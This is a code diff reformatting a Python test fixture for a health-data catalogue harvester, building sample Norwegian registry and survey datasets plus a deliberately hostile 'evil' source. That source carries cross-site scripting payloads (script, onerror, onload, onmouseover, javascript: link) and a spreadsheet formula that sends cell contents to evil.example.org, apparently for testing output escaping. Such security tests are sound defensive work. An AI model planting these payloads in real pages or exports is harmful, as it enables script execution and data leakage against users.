@@ -27,7 +27,7 @@ SURVEY = "https://data.example.org/hunt"
 EVIL = "https://evil.example.org"
 XSS = {
     "title": '<script>window.__xss = "title"; alert(1)</script>Skjema for kroppsmål',
-    "description": '<img src=x onerror="window.__xss = \'description\'">Vekt ved fødsel',
+    "description": "<img src=x onerror=\"window.__xss = 'description'\">Vekt ved fødsel",
     "name": '"><svg onload="window.__xss=\'name\'">',
     "landing": "javascript:window.__xss='link'",
 }
@@ -36,61 +36,121 @@ FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Klikk")'
 
 
 def npr_records() -> list:
-    icd = CodeList(uri=f"{NPR}/kodeverk/icd10", identifier="icd-10", title={"nb": "ICD-10", "en": "ICD-10"},
-                   concepts=[Concept(code="C50", label={"nb": "Ondartet svulst i brystkjertel"}),
-                             Concept(code="E11", label={"nb": "Diabetes mellitus type 2"}, valid_from="1999-01-01"),
-                             Concept(code="U07.1", label={"nb": "Covid-19, virus påvist"}, valid_from="2020-03-01")])
-    atc = CodeList(uri=f"{NPR}/kodeverk/atc", identifier="atc", title={"nb": "ATC-klassifikasjonen"},
-                   concepts=[Concept(code="A10BA02", label={"nb": "Metformin"}),
-                             Concept(code="N02BE01", label={"nb": "Paracetamol"})])
+    icd = CodeList(
+        uri=f"{NPR}/kodeverk/icd10",
+        identifier="icd-10",
+        title={"nb": "ICD-10", "en": "ICD-10"},
+        concepts=[
+            Concept(code="C50", label={"nb": "Ondartet svulst i brystkjertel"}),
+            Concept(code="E11", label={"nb": "Diabetes mellitus type 2"}, valid_from="1999-01-01"),
+            Concept(code="U07.1", label={"nb": "Covid-19, virus påvist"}, valid_from="2020-03-01"),
+        ],
+    )
+    atc = CodeList(
+        uri=f"{NPR}/kodeverk/atc",
+        identifier="atc",
+        title={"nb": "ATC-klassifikasjonen"},
+        concepts=[
+            Concept(code="A10BA02", label={"nb": "Metformin"}),
+            Concept(code="N02BE01", label={"nb": "Paracetamol"}),
+        ],
+    )
     d = Dataset(
-        uri=f"{NPR}/dataset/episoder", identifier="npr-episoder",
+        uri=f"{NPR}/dataset/episoder",
+        identifier="npr-episoder",
         title={"nb": "Norsk pasientregister – episoder", "en": "Norwegian Patient Registry – episodes"},
         description={"nb": "Episoder i spesialisthelsetjenesten fra 2008.", "en": "Specialist care episodes."},
         publisher=Agent(name={"nb": "Helsedirektoratet"}, uri=f"{NPR}/org"),
         hdab=Agent(name={"nb": "Helsedataservice"}, uri="https://helsedata.no/hdab", email="hds@example.org"),
-        legal_basis={"nb": "Forskrift om Norsk pasientregister"}, population_coverage={"nb": "Alle pasienter"},
-        number_of_records=80_000_000, number_of_unique_individuals=5_000_000,
-        health_categories=[HC + "PHDR"], access_rights=EU + "access-right/NON_PUBLIC",
-        temporal_start="2008-01-01", keywords={"nb": ["diagnose"]},
+        legal_basis={"nb": "Forskrift om Norsk pasientregister"},
+        population_coverage={"nb": "Alle pasienter"},
+        number_of_records=80_000_000,
+        number_of_unique_individuals=5_000_000,
+        health_categories=[HC + "PHDR"],
+        access_rights=EU + "access-right/NON_PUBLIC",
+        temporal_start="2008-01-01",
+        keywords={"nb": ["diagnose"]},
         variables=[
-            Variable(uri=f"{NPR}/variabel/HOVEDDIAGNOSE", name="HOVEDDIAGNOSE",
-                     title={"nb": "Hoveddiagnose", "nn": "Hovuddiagnose", "en": "Main diagnosis"},
-                     description={"nb": "Tilstanden som hovedsakelig var årsak til episoden."},
-                     codelist=icd.uri, coding_system="ICD-10", valid_from="2008-01-01"),
-            Variable(uri=f"{NPR}/variabel/LEGEMIDDEL", name="LEGEMIDDEL", title={"nb": "Legemiddel"},
-                     description={"nb": "Legemiddel gitt under oppholdet."}, codelist=atc.uri, coding_system="ATC"),
-            Variable(uri=f"{NPR}/variabel/FODSELSVEKT", name="FODSELSVEKT", title={"nb": "Fødselsvekt"},
-                     description={"nb": "Vekt ved fødsel for nyfødte innlagt."}, datatype="integer", unit="gram",
-                     valid_from="2010-01-01", valid_to="2019-12-31"),
-        ])
+            Variable(
+                uri=f"{NPR}/variabel/HOVEDDIAGNOSE",
+                name="HOVEDDIAGNOSE",
+                title={"nb": "Hoveddiagnose", "nn": "Hovuddiagnose", "en": "Main diagnosis"},
+                description={"nb": "Tilstanden som hovedsakelig var årsak til episoden."},
+                codelist=icd.uri,
+                coding_system="ICD-10",
+                valid_from="2008-01-01",
+            ),
+            Variable(
+                uri=f"{NPR}/variabel/LEGEMIDDEL",
+                name="LEGEMIDDEL",
+                title={"nb": "Legemiddel"},
+                description={"nb": "Legemiddel gitt under oppholdet."},
+                codelist=atc.uri,
+                coding_system="ATC",
+            ),
+            Variable(
+                uri=f"{NPR}/variabel/FODSELSVEKT",
+                name="FODSELSVEKT",
+                title={"nb": "Fødselsvekt"},
+                description={"nb": "Vekt ved fødsel for nyfødte innlagt."},
+                datatype="integer",
+                unit="gram",
+                valid_from="2010-01-01",
+                valid_to="2019-12-31",
+            ),
+        ],
+    )
     return [d, icd, atc]
 
 
 def survey_dataset() -> Dataset:
-    return Dataset(uri=f"{SURVEY}/dataset/hunt4", identifier="hunt4", title={"nb": "HUNT4 spørreskjema"},
-                   description={"nb": "Spørreskjema om levevaner."}, temporal_start="2017-01-01",
-                   temporal_end="2019-12-31", publisher=Agent(name={"nb": "HUNT forskningssenter"}),
-                   variables=[Variable(uri=f"{SURVEY}/variabel/ROYK{i:02d}", name=f"ROYK{i:02d}",
-                                       title={"nb": f"Røyking spørsmål {i}"},
-                                       description={"nb": f"Røykevaner, spørsmål nummer {i}."}, datatype="boolean")
-                              for i in range(1, 46)])
+    return Dataset(
+        uri=f"{SURVEY}/dataset/hunt4",
+        identifier="hunt4",
+        title={"nb": "HUNT4 spørreskjema"},
+        description={"nb": "Spørreskjema om levevaner."},
+        temporal_start="2017-01-01",
+        temporal_end="2019-12-31",
+        publisher=Agent(name={"nb": "HUNT forskningssenter"}),
+        variables=[
+            Variable(
+                uri=f"{SURVEY}/variabel/ROYK{i:02d}",
+                name=f"ROYK{i:02d}",
+                title={"nb": f"Røyking spørsmål {i}"},
+                description={"nb": f"Røykevaner, spørsmål nummer {i}."},
+                datatype="boolean",
+            )
+            for i in range(1, 46)
+        ],
+    )
 
 
 def evil_dataset() -> Dataset:
-    return Dataset(uri=f"{EVIL}/dataset/x", identifier="evil", title={"nb": XSS["title"]},
-                   description={"nb": XSS["description"]}, landing_page=XSS["landing"],
-                   publisher=Agent(name={"nb": XSS["title"]}, url=XSS["landing"]),
-                   variables=[Variable(uri=f"{EVIL}/variabel/V1", name=XSS["name"], title={"nb": XSS["title"]},
-                                       description={"nb": XSS["description"]}, unit=XSS["description"]),
-                              Variable(uri=f"{EVIL}/variabel/V2", name="FORMULA", title={"nb": FORMULA})])
+    return Dataset(
+        uri=f"{EVIL}/dataset/x",
+        identifier="evil",
+        title={"nb": XSS["title"]},
+        description={"nb": XSS["description"]},
+        landing_page=XSS["landing"],
+        publisher=Agent(name={"nb": XSS["title"]}, url=XSS["landing"]),
+        variables=[
+            Variable(
+                uri=f"{EVIL}/variabel/V1",
+                name=XSS["name"],
+                title={"nb": XSS["title"]},
+                description={"nb": XSS["description"]},
+                unit=XSS["description"],
+            ),
+            Variable(uri=f"{EVIL}/variabel/V2", name="FORMULA", title={"nb": FORMULA}),
+        ],
+    )
 
 
 SOURCES = {
     "mfr": ("central-registry", "Medisinsk fødselsregister", lambda: [mfr_dataset(), apgar_codes()]),
     "npr": ("central-registry", "Norsk pasientregister", npr_records),
     "hunt": ("survey", "HUNT", lambda: [survey_dataset()]),
-    "evil": ("catalogue", '<b onmouseover="window.__xss=\'source\'">Evil</b>', lambda: [evil_dataset()]),
+    "evil": ("catalogue", "<b onmouseover=\"window.__xss='source'\">Evil</b>", lambda: [evil_dataset()]),
 }
 
 
@@ -100,11 +160,13 @@ def build(home: Path, server, hostile: bool = True) -> Settings:  # type: ignore
     for name, (category, title, records) in SOURCES.items():
         if name == "evil" and not hostile:
             continue
-        url = server.serve(f"/web/{name}.ttl", to_graph(records()).serialize(format="turtle"),
-                           Content_Type="text/turtle")
+        url = server.serve(
+            f"/web/{name}.ttl", to_graph(records()).serialize(format="turtle"), Content_Type="text/turtle"
+        )
         settings.sources[name] = SourceConfig(name=name, kind="dcat", url=url, category=category, title=title)
-    settings.sources["gone"] = SourceConfig(name="gone", kind="dcat", url=server.url + "/web/missing.ttl",
-                                            title="Nedlagt register")
+    settings.sources["gone"] = SourceConfig(
+        name="gone", kind="dcat", url=server.url + "/web/missing.ttl", title="Nedlagt register"
+    )
     store = SQLiteStore(settings.db_path)
     index = open_backend(settings)
     harvest(settings, store, index)
